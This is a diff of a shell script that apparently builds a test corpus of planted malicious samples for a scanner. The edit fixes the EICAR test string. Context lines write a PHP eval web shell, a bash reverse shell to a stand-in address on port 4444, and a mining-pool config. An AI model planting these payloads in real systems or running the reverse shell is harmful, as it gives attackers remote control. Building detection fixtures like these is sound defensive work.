@@ -133,7 +133,7 @@ else
     copy_budget /usr/share "$WORK/corpus/text" $((MB * 1000000 * 3 / 10))
     # Planted samples, built here so this script is not itself a sample.
     P=$WORK/corpus/planted
-    printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$' 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!H+H*' >"$P/eicar.com"
+    printf '%s%s' 'X5O!P%@AP[4\PZX54(P^)7CC)7}$' 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*' >"$P/eicar.com"
     printf '<?php @eval($_POST["x"]); ?>\n' >"$P/up.php"
     printf '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n' >"$P/rs.sh"
     printf '{"pools": [{"url": "stratum+tcp://pool.example.org:443", "user": "4Abc"}]}\n' >"$P/config.json"
